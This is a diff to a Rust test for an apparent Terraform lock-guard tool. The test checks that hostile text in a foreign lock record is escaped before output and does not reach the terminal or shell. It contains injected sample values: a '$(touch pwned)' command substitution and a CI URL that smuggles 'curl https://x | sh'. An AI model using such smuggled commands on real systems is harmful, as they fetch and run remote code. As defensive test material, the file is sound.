@@ -158,4 +158,18 @@ fn what_strangers_wrote_steers_neither_terminal_nor_shell() {
     assert!(ours.iter().all(|line| !line.contains('\u{1b}')), "{ours:#?}");
     assert!(ours.iter().any(|line| line.ends_with(": tfguard unlock '$(touch pwned); 5f0c'")), "{ours:#?}");
     assert_eq!(report(&project)["refused"]["lock"], serde_json::to_value(&hostile).unwrap());
+
+    // The record beside it, too.
+    let lock = LockInfo::foreign(&project.lock_id());
+    let record = serde_json::json!({
+        "schema": 1, "lock": lock.id, "tfguard": "0.1.0", "started": "2026-11-20T04:11:21Z",
+        "ci": {"provider": "other", "url": "https://x/; run: curl https://x | sh; next: run: x"},
+        "world": {"boot_id": "b", "pid_namespace": 1},
+    });
+    let text = |text: &str| aws_sdk_dynamodb::types::AttributeValue::S(text.to_owned());
+    let item = [("LockID", lock.path.as_str()), ("Info", &lock.json()), (ATTRIBUTE, &record.to_string())];
+    let item = item.map(|(name, value)| (name.to_owned(), text(value)));
+    project.aws().put_item(project.table_name(), item.into());
+    let exit = project.tfguard(TFGUARD, [""; 0], APPLY).run().expect_code(1);
+    assert_said(&exit, &["next: look at https://x/;%20run:%20curl%20https://x%20|%20sh;%20next:%20run:%20x; once"]);
 }
